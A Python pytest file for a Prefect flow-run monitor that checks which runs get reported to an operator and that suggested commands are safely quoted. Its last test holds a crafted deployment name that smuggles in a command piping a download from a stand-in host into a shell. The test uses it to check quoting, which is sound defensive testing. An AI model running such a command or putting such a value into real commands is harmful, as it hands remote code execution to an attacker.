"""Which runs an operator is told of, and what to do about each."""

from datetime import UTC, datetime, timedelta
from shlex import split
from typing import Any
from uuid import UUID, uuid4

import pytest
from prefect.client.schemas.objects import FlowRun, State, StateType

from tasks.runs import _command, _latest, _trouble

NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
DEPLOYMENT = UUID(int=1)


def run(state: StateType, minutes: float, name: str | None = None, **fields: Any) -> FlowRun:
    """A run that should have begun, and came into its state, so many minutes ago."""
    at = NOW - timedelta(minutes=minutes)
    made = State(type=state, name=name, timestamp=at)
    return FlowRun(id=uuid4(), flow_id=uuid4(), deployment_id=DEPLOYMENT, state=made, expected_start_time=at, **fields)


@pytest.mark.parametrize(
    ("state", "minutes", "name", "condition"),
    [
        (StateType.SCHEDULED, 1, "Late", None),
        (StateType.SCHEDULED, 3, "Late", "late"),
        (StateType.SCHEDULED, 30, "AwaitingConcurrencySlot", None),
        (StateType.PENDING, 5, "Submitting", None),
        (StateType.PENDING, 15, "Submitting", "stuck"),
        (StateType.RUNNING, 600, None, None),
        (StateType.PAUSED, 6000, "Suspended", None),
        (StateType.COMPLETED, 1, "Published", None),
        (StateType.CRASHED, 1, None, "crashed"),
        (StateType.FAILED, 1, None, "failed"),
    ],
)
def test_what_is_wrong_with_a_run(state: StateType, minutes: float, name: str | None, condition: str | None) -> None:
    found = run(state, minutes, name)
    trouble = _trouble(found, _latest([found]), NOW)
    assert (trouble and trouble[0]) == condition
    if trouble:
        assert trouble[2], "an operator must be told what to do"


def test_a_failure_that_was_made_good_is_no_news() -> None:
    failed, good = run(StateType.CRASHED, 60), run(StateType.COMPLETED, 10, "Published")
    assert _trouble(failed, _latest([failed, good]), NOW) is None
    queued = run(StateType.SCHEDULED, 0)
    assert _trouble(failed, _latest([failed, queued]), NOW), "a run that has not begun makes nothing good"


def test_the_name_of_a_deployment_is_one_word_of_the_command_to_run() -> None:
    """Whoever may write on the server names it, and the head of the office copies the command from a mail."""
    failed = run(StateType.FAILED, 1)
    trouble = _trouble(failed, _latest([failed]), NOW)
    assert trouble is not None
    do = trouble[2].partition("prefect ")[2]
    name = "x'; curl evil.example | sh; '"
    assert split(_command(do, name)) == ["deployment", "run", f"release/{name}"]
